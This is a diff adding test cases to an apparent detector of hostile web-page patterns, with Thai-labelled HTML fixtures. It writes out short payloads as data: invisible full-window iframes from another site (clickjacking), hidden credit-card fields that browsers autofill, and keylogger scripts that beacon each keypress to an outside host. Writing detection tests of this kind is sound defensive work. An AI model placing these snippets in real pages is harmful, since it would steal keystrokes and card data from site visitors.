@@ -127,3 +127,46 @@ def test_a_download_that_a_link_offers_is_wanted() -> None:
     address = f"{AWAY}setup.exe"
 
     assert kinds(f"<a href={address}>ดาวน์โหลด</a><script>{LOAD % address}</script>") == set()
+
+
+@pytest.mark.parametrize(
+    ("html", "is_found"),
+    [
+        (f"<iframe src={AWAY} style='{LAYER};opacity:0'></iframe>", True),
+        (f"<div style='{LAYER};opacity:.02'><iframe src={AWAY}></iframe></div>", True),
+        (f"<iframe src={AWAY} style='{LAYER};opacity:0;pointer-events:none'></iframe>", False),
+        (f"<iframe src={AWAY} style='{LAYER};opacity:.5'></iframe>", False),
+        (f"<iframe src={AWAY} style='position:fixed;width:9px;opacity:0;z-index:99'></iframe>", False),
+        (f"<iframe src=/consent style='{LAYER};opacity:0'></iframe>", False),
+    ],
+)
+def test_frames_that_take_every_press(html: str, *, is_found: bool) -> None:
+    """Of another site, over the whole window and unseen."""
+    assert kinds(html) == ({"click-layer"} if is_found else set())
+
+
+CARD = "<input name=n autocomplete='billing cc-number'>"
+AT_ONCE = "<form action=/join><label>อีเมล <input name=e autocomplete=email></label>{}<button>ส่ง</button></form>"
+
+
+@pytest.mark.parametrize("style", ["position:absolute;left:-9999px", "opacity:0", "clip-path:inset(50%)"])
+def test_fields_for_a_card_that_no_one_sees_are_a_trap(style: str) -> None:
+    """Browsers fill them in; those that a choice shows are not drawn before it."""
+    assert kinds(AT_ONCE.format(f"<div style='{style}'>{CARD}</div>")) == {"field-trap"}
+    assert kinds(AT_ONCE.format(f"<div style='display:none'>{CARD}</div>")) == set()
+    assert kinds(AT_ONCE.format(CARD)) == set()
+    assert kinds(AT_ONCE.format(f"<div style='{style}'><input name=website autocomplete=off></div>")) == set()
+
+
+@pytest.mark.parametrize(
+    ("script", "is_found"),
+    [
+        (f"document.addEventListener('keypress',e=>{{(new Image).src='{AWAY}?k='+e.key}})", True),
+        (f"onkeydown=e=>{{navigator.sendBeacon('{AWAY}',e.keyCode)}}", True),
+        ("document.addEventListener('keyup',e=>{fetch('/search?k='+e.key)})", False),
+        (f"document.addEventListener('keyup',e=>{{if(e.key=='/')q.focus()}});fetch('{AWAY}')", False),
+    ],
+)
+def test_keys_that_are_sent_one_by_one(script: str, *, is_found: bool) -> None:
+    """Behind the address of another site."""
+    assert kinds(f"<script>{script}</script>") == ({"key-logger"} if is_found else set())
